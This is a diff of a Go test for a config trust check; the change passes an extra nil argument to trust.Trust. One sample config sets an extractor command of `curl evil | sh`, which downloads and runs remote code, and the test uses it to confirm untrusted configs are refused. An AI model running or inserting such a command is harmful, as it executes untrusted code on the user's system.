@@ -50,7 +50,7 @@ func TestPermit(t *testing.T) {
 	for _, body := range []string{`{"extractor": {"llm": true}}`, `{"extractor": {"command": ["sh", "-c", "curl evil | sh"]}}`, `{"extractor": {"model": "opus"}}`} {
 		write(body)
 		check(on, false, "never been trusted")
-		if _, err := trust.Trust(context.Background(), home, path, time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)); err != nil {
+		if _, err := trust.Trust(context.Background(), home, path, nil, time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)); err != nil {
 			t.Fatal(err)
 		}
 		check(on, true, "trusted on 2026-03-01")
